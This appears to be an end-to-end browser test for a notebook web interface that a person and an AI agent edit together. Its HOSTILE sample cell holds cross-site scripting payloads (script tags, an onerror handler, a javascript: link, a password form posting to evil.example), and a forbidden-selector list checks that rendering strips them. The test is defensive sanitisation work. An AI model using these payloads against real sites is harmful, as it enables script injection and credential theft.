"""The page of `nb web`, as a person uses it while an agent works on the same notebook."""

import contextlib
import json
import os
import pathlib
import re

from lab import IS_THOROUGH, SECONDS, chromium, expect, nb, picture, say, write
from web_tab import Book, Web

BOOK = "analysis.ipynb"
PLOT = "\n".join([
    "import matplotlib.pyplot as plt",
    "plt.plot([1, 4, 9, 16])",
    "plt.show()",
])  # fmt: skip
HOSTILE = """from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML('''<b id="bold">bold</b><script>document.title = "taken"</script>
<img src="http://127.0.0.1:1/x.png" onerror="document.title = 'taken'"><a id="link" href="javascript:document.title='taken'">link</a>
<form action="http://evil.example"><input name="password"></form><iframe src="/"></iframe>'''))
display(Javascript('document.title = "taken"'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><script>document.title="taken"</script>'
            '<circle r="9" cx="10" cy="10" onclick="document.title=1"/></svg>'))
display(Markdown('*told* $x^2$ <script>document.title = "taken"</script>'))
"""


def main():
    expect.set_options(timeout=1000 * SECONDS)
    write(BOOK, "x = 20", PLOT, HOSTILE, "name = input('Who? ')\nprint('hello', name)")
    for number, name in enumerate(["first000", "plot0000", "hostile0", "input000"]):
        text = json.loads(pathlib.Path(BOOK).read_text())
        text["cells"][number]["id"] = name
        pathlib.Path(BOOK).write_text(json.dumps(text))
    nb("open", BOOK, "--python", os.environ["NB_TEST_PYTHON"])
    web = Web()
    with contextlib.ExitStack() as ends, chromium() as browser:
        ends.callback(web.end)
        context = browser.new_context(viewport={"width": 1200, "height": 800}, color_scheme="light")
        page = context.new_page()
        book = open_list(page, web)
        edit_and_run(book)
        help_with_code(book)
        agent_at_work(book)
        conflict(book)
        keys(book)
        question(book)
        hostile(book)
        slips(book)
        interrupt_and_reload(book)
        if IS_THOROUGH:
            two_tabs(book, context)
        history(book)
        if IS_THOROUGH:
            looks(book, browser, web)
        assert book.problems == [], book.problems
        server_ends(book, web)


def open_list(page, web):
    say("the list of notebooks; the address loses its token")
    page.goto(web.address)
    expect(page.get_by_role("link", name=BOOK)).to_be_visible()
    assert "token" not in page.url, page.url
    page.get_by_role("link", name=BOOK).click()
    book = Book(page)
    expect(book.source(0)).to_contain_text("x = 20")
    expect(page.locator("header .kernel")).to_contain_text("idle")
    return book


def edit_and_run(book):
    say("edit, run, plot")
    book.write(0, "x = 21\nx * 2")
    book.source(0).press("Shift+Enter")
    expect(book.outputs(0)).to_contain_text("42")
    book.has_ended(0)
    assert "x = 21" in nb("cell", BOOK, "first000")
    expect(book.cell(1)).to_have_attribute("aria-current", "true")
    book.page.keyboard.press("Shift+Enter")
    image = book.outputs(1).locator("img")
    expect(image).to_be_visible()
    assert image.evaluate("it => it.complete && it.naturalWidth > 100")
    book.has_ended(1)


def help_with_code(book):
    say("completion and documentation by the kernel, and closing brackets")
    completed(book)
    source = book.source(0)
    source.press("Shift+Tab")
    text = book.page.locator(".cm-documentation")
    expect(text).to_contain_text("Number of bits")
    source.press("Escape")
    expect(text).to_have_count(0)
    expect(source).to_be_focused()
    book.page.keyboard.type("(")
    expect(source).to_have_text("x.bit_length()")
    # Where no word ends, Tab indents.
    source.press("Home")
    source.press("Tab")
    expect(source).to_have_text("    x.bit_length()")
    book.write(0, "x = 21\nx * 2")
    source.press("Control+s")
    expect(book.cell(0)).not_to_have_class(re.compile("changed"))


def completed(book):
    """Completes an attribute of a variable in the first cell."""
    book.write(0, "x.bit_l")
    book.source(0).press("Tab")
    expect(book.page.get_by_role("option", name="bit_length")).to_be_visible()
    book.source(0).press("Enter")
    expect(book.source(0)).to_have_text("x.bit_length")


def agent_at_work(book):
    say("an agent's edit and run appear")
    nb("cells", BOOK)
    nb("insert", BOOK, "--after", "first000", "--id", "agent000", "-x", "--source", "print('from', 'claude', x)")
    expect(book.source(1)).to_contain_text("'claude'")
    expect(book.outputs(1)).to_contain_text("from claude 21")
    nb("edit", BOOK, "agent000", "print('again', x)")
    expect(book.source(1)).to_contain_text("again")


def conflict(book):
    say("a conflict shows both texts")
    book.write(1, "print('mine')")
    nb("edit", "--force", BOOK, "agent000", "print('theirs')")
    # The other text has arrived, and what was typed stays.
    expect(book.cell(1).locator(".note")).to_have_text("others changed it")
    expect(book.source(1)).to_contain_text("mine")
    book.source(1).press("Control+s")
    box = book.cell(1).get_by_role("group", name="Conflict")
    expect(box).to_contain_text("print('theirs')")
    expect(box).to_contain_text("print('mine')")
    picture(book.page, "web-conflict")
    assert "theirs" in nb("cell", BOOK, "agent000")
    box.get_by_role("button", name="Overwrite").click()
    expect(box).to_be_hidden()
    expect(book.cell(1)).not_to_have_class(re.compile("changed"))
    assert "mine" in nb("cell", BOOK, "agent000")


def keys(book):
    say("the keys of Jupyter's command mode")
    count = book.page.locator(".cell").count()
    book.select(1)
    book.page.keyboard.press("b")
    expect(book.page.locator(".cell")).to_have_count(count + 1)
    expect(book.cell(2)).to_have_attribute("aria-current", "true")
    book.page.keyboard.press("Enter")
    # While the new cell is on its way, the page keeps keys; a text that is inserted at once is not a key.
    expect(book.source(2)).to_be_focused()
    book.page.keyboard.insert_text("# Title\n\n*told* and $x^2$")
    book.page.keyboard.press("Escape")
    book.page.keyboard.press("m")
    expect(book.cell(2).locator(".rendered h1")).to_contain_text("Title")
    expect(book.cell(2).locator(".rendered math").first).to_be_attached()
    book.page.keyboard.press("k")
    expect(book.cell(1)).to_have_attribute("aria-current", "true")
    book.page.keyboard.press("ArrowDown")
    expect(book.cell(2)).to_have_attribute("aria-current", "true")
    book.page.keyboard.press("a")
    expect(book.page.locator(".cell")).to_have_count(count + 2)
    book.page.keyboard.press("d")
    book.page.keyboard.press("d")
    expect(book.page.locator(".cell")).to_have_count(count + 1)
    book.page.keyboard.press("z")
    expect(book.page.locator(".cell")).to_have_count(count + 2)
    book.page.keyboard.press("z")
    expect(book.page.locator(".cell")).to_have_count(count + 1)


def question(book):
    say("input() is answered in place")
    book.select(5)
    expect(book.source(5)).to_contain_text("input(")
    book.page.keyboard.press("Control+Enter")
    field = book.cell(5).get_by_role("textbox", name="Who?")
    expect(field).to_be_visible()
    field.fill("Ada")
    field.press("Enter")
    expect(book.outputs(5)).to_contain_text("hello Ada")
    book.has_ended(5)
    expect(field).to_have_count(0)


def hostile(book):
    say("an output with script does nothing")
    book.select(4)
    expect(book.source(4)).to_contain_text("Javascript")
    requests = []
    book.page.on("request", lambda request: requests.append(request))
    book.page.keyboard.press("Control+Enter")
    expect(book.outputs(4).locator("b", has_text="bold")).to_be_visible()
    expect(book.outputs(4)).to_contain_text("told")
    book.has_ended(4)
    book.outputs(4).locator("a", has_text="link").click()
    for forbidden in ["script", "iframe", "form[action]", "input:enabled", "[onerror]", "[onclick]", "a[href^='javascript']"]:
        found = [node.evaluate("it => it.outerHTML") for node in book.outputs(4).locator(forbidden).all()]
        assert found == [], found
    expect(book.outputs(4).locator("img[src^='data:image/svg+xml']")).to_be_visible()
    expect(book.page).to_have_title(f"{BOOK} – nb")
    own = book.page.url.split("#")[0]
    others = [request for request in requests if not request.url.startswith((own, "data:", "blob:"))]
    assert all(request.failure == "csp" for request in others), [(request.url, request.failure) for request in others]


def slips(book):
    say("a deleted cell leaves a line in its place; a double click deletes one cell")
    count = book.page.locator(".cell").count()
    names = [node.get_attribute("data-cell") for node in book.page.locator(".cell").all()]
    book.select(2)
    book.cell(2).get_by_role("button", name="Delete this cell").dblclick()
    expect(book.page.locator(".cell")).to_have_count(count - 1)
    line = book.page.locator(".cells > .removed")
    expect(line).to_have_text(re.compile(r"Deleted: 2 · \w+ · # Title"))
    picture(book.page, "web-deleted")
    line.get_by_role("button", name="Undo").click()
    expect(book.page.locator(".cell")).to_have_count(count)
    expect(line).to_have_count(0)
    assert [node.get_attribute("data-cell") for node in book.page.locator(".cell").all()] == names
    expect(book.cell(2)).to_have_attribute("aria-current", "true")

    say("an undo of what is out of sight comes into sight")
    book.select(0)
    book.page.keyboard.press("d")
    book.page.keyboard.press("d")
    expect(book.page.locator(".cell")).to_have_count(count - 1)
    book.select(count - 2)
    book.page.keyboard.press("z")
    expect(book.page.locator(".cell")).to_have_count(count)
    expect(book.cell(0)).to_have_attribute("aria-current", "true")
    expect(book.cell(0)).to_be_in_viewport()

    say("the keys")
    book.page.keyboard.press("?")
    dialog = book.page.get_by_role("dialog", name="Keys")
    expect(dialog).to_contain_text("takes your last edit back")
    book.page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)

    say("a restart and a shutdown ask, with what is lost")
    asked = []
    for button in ["Restart the kernel", "Shut down the kernel"]:
        with book.page.expect_event("dialog") as event:
            # Nothing goes on in the page while it asks.
            book.page.once("dialog", lambda dialog: dialog.dismiss())
            book.page.get_by_role("button", name=button).click()
        asked.append(event.value.message)
    assert re.fullmatch(r"Restart the kernel\? \d+ variables will be lost\.", asked[0]), asked
    assert re.fullmatch(r"Shut down the kernel\? \d+ variables will be lost\.", asked[1]), asked
    assert "x" in nb("vars", "-n", BOOK)


def interrupt_and_reload(book):
    say("reload in mid-run, interrupt")
    nb("insert", BOOK, "--id", "long0000", "--source", "import time\nfor i in range(3000):\n    print('step', i)\n    time.sleep(0.1)")
    expect(book.cell(6)).to_be_attached()
    book.select(6)
    book.page.keyboard.press("Control+Enter")
    expect(book.outputs(6)).to_contain_text("step 3")
    expect(book.cell(6)).to_have_attribute("data-state", "running")
    expect(book.page.locator("header .kernel")).to_contain_text("busy")
    picture(book.page, "web-running")
    completed(book)
    book.write(0, "x = 21\nx * 2")
    book.source(0).press("Control+s")
    book.page.reload()
    expect(book.cell(6)).to_have_attribute("data-state", "running")
    # All that it has printed is there at once, nothing twice, and it goes on.
    expect(book.outputs(6)).to_contain_text("step 3")
    seen = steps(book)
    assert seen == list(range(len(seen))) and len(seen) >= 4, seen
    expect(book.outputs(6)).to_contain_text(f"step {len(seen) + 5}")
    seen = steps(book)
    assert seen == list(range(len(seen))), seen
    # So it is in another browser, which comes in the middle.
    context = book.page.context.browser.new_context()
    context.add_cookies(book.page.context.cookies())
    other = Book(context.new_page())
    other.page.goto(book.page.url)
    expect(other.outputs(6)).to_contain_text(f"step {len(seen) + 5}")
    seen = steps(other)
    assert seen == list(range(len(seen))), seen
    context.close()
    book.page.get_by_role("button", name="Stop", exact=True).click()
    expect(book.outputs(6)).to_contain_text("KeyboardInterrupt")
    expect(book.cell(6)).not_to_have_attribute("data-state", "running")
    expect(book.page.locator("header .kernel")).to_contain_text("idle")


def steps(book):
    """The numbers that the endless cell has printed."""
    return [int(number) for number in re.findall(r"step (\d+)", book.outputs(6).inner_text())]


def two_tabs(book, context):
    say("two tabs")
    other = Book(context.new_page())
    other.page.goto(book.page.url)
    expect(other.source(0)).to_contain_text("x = 21")
    other.write(0, "x = 30\nx")
    other.source(0).press("Control+Enter")
    expect(book.source(0)).to_contain_text("x = 30")
    expect(book.outputs(0)).to_contain_text("30")
    expect(other.outputs(0)).to_contain_text("30")
    assert other.problems == [], other.problems
    other.page.close()


def history(book):
    say("who did what, and undo")
    book.page.get_by_role("button", name="History", exact=True).click()
    panel = book.page.get_by_role("complementary")
    expect(panel).to_contain_text("claude: insert")
    expect(panel).to_contain_text("human (browser) ran")
    book.write(0, "x = 30\nx")
    book.source(0).press("Control+s")
    expect(book.cell(0)).not_to_have_class(re.compile("changed"))
    nb("cell", BOOK, "first000")
    nb("edit", BOOK, "first000", "x = 31")
    expect(book.source(0)).to_contain_text("x = 31")
    row = panel.locator(".row", has_text="claude: edit 0 · firs").first
    row.locator("summary").click()
    expect(row.locator(".diff")).to_contain_text("+ x = 31")
    row.get_by_role("button", name="Undo this").click()
    expect(book.source(0)).to_contain_text("x = 30")
    picture(book.page, "web")
    panel.get_by_role("tab", name="Variables").click()
    expect(panel.locator("td", has_text=re.compile("^x$"))).to_be_visible()
    panel.get_by_role("tab", name="Deleted cells").click()
    expect(panel).to_contain_text(re.compile("Restore|No cell"))
    book.page.get_by_role("button", name="History", exact=True).click()
    expect(panel).to_be_hidden()


def looks(book, browser, web):
    say("phone width, dark")
    phone = browser.new_context(viewport={"width": 390, "height": 800}, color_scheme="dark", has_touch=True)
    page = phone.new_page()
    page.goto(f"{web.address}#{BOOK}")
    small = Book(page)
    expect(small.source(0)).to_contain_text("x = 30")
    width = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert width[0] <= width[1], width
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    light = book.page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert background != light, background
    small.cell(0).locator(".side").tap()
    small.cell(0).get_by_role("button", name="Run this cell").tap()
    small.has_ended(0)
    picture(page, "web-phone")
    for landmark in ["banner", "main"]:
        expect(page.get_by_role(landmark)).to_have_count(1)
    assert page.locator("[aria-live]").count() >= 1
    assert small.problems == [], small.problems
    phone.close()


def server_ends(book, web):
    say("the server ends")
    port = re.search(r":(\d+)/", web.address)[1]
    web.end()
    alert = book.page.get_by_role("alert")
    expect(alert).to_contain_text("the connection to nb web is lost")
    other = Web("--port", port)
    try:
        book.page.reload()
        expect(book.page.locator("body")).to_contain_text("open the address that")
    finally:
        other.end()


main()
